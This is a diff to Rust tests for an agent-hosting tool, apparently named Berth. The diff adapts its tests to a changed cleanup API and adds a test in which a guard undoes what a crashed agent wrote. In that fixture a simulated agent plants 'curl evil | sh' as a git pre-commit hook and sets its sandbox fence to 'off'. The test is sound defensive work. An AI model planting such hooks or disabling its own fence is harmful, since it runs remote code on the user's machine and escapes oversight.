@@ -59,7 +59,7 @@ fn finished_runs_are_not_replayed_and_the_file_is_emptied() {
     sidecars
         .append_block(&pinned, "CLAUDE.md", "brief")
         .unwrap();
-    sidecars.cleanup(&pinned).unwrap();
+    sidecars.cleanup(&pinned).1.unwrap();
     let path = journal.path().unwrap();
     assert_eq!(std::fs::read(&path).unwrap(), b"");
     // The user now writes a file with Berth's block text: a later replay leaves it.
@@ -175,7 +175,8 @@ fn undo_removes_only_what_berth_wrote_in_a_skill_folder() {
         } else {
             sidecars
                 .cleanup(&pinned)
-                .unwrap()
+                .0
+                .kept
                 .into_iter()
                 .map(|k| format!("{}/{k}", dir.display()))
                 .collect()
@@ -233,7 +234,52 @@ fn a_block_is_cut_out_even_after_the_file_was_hard_linked_during_the_run() {
         .append_block(&pinned, "CLAUDE.md", "brief")
         .unwrap();
     std::fs::hard_link(dir.join("CLAUDE.md"), dir.join("copy.md")).unwrap();
-    assert_eq!(sidecars.cleanup(&pinned).unwrap(), Vec::<String>::new());
+    assert_eq!(
+        sidecars.cleanup(&pinned).0.kept,
+        Vec::<String>::new()
+    );
     assert_eq!(std::fs::read(dir.join("CLAUDE.md")).unwrap(), b"# Mine\n");
     assert_eq!(std::fs::read(dir.join("copy.md")).unwrap(), b"# Mine\n");
+}
+
+/// The guard's snapshot rides in the journal: what an agent of a Berth that crashed
+/// mid-run wrote into `.git/hooks`, `.git/config` or `.berth` is put back at the next
+/// start, and named.
+#[test]
+fn guarded_paths_are_put_back_at_the_next_start_after_a_crash() {
+    let sb = Sandbox::new();
+    let dir = sb.dir("work/app");
+    std::fs::create_dir_all(dir.join(".git/hooks")).unwrap();
+    std::fs::write(dir.join(".git/config"), "[core]\n").unwrap();
+    std::fs::create_dir_all(dir.join(".berth")).unwrap();
+    std::fs::write(dir.join(".berth/settings.jsonc"), "{}").unwrap();
+    let before = tree(&dir);
+    let cfg = sb.cfg();
+    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
+    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
+    let journal = Journal::new(cfg.journal_dir());
+    let mut sidecars = Sidecars::new(&journal, "t1");
+    let guard_dir = cfg.berth_home.join("guard");
+    sidecars.guard(&pinned, &guard_dir).unwrap();
+    // The agent, then the crash.
+    std::fs::write(dir.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
+    std::fs::write(dir.join(".berth/settings.jsonc"), r#"{"fence": "off"}"#).unwrap();
+    drop((sidecars, journal));
+
+    let report = exec.replay_leftovers();
+    assert_eq!(report.restored, vec![dir.display().to_string()]);
+    let d = dir.display();
+    assert_eq!(
+        report.guarded,
+        [
+            format!("{d}/.git/hooks/pre-commit (added)"),
+            format!("{d}/.berth/settings.jsonc (changed)"),
+        ]
+    );
+    assert_eq!(tree(&dir), before);
+    assert!(
+        tree(&guard_dir).is_empty(),
+        "the snapshot is removed once applied"
+    );
+    assert_eq!(exec.replay_leftovers(), Default::default());
 }
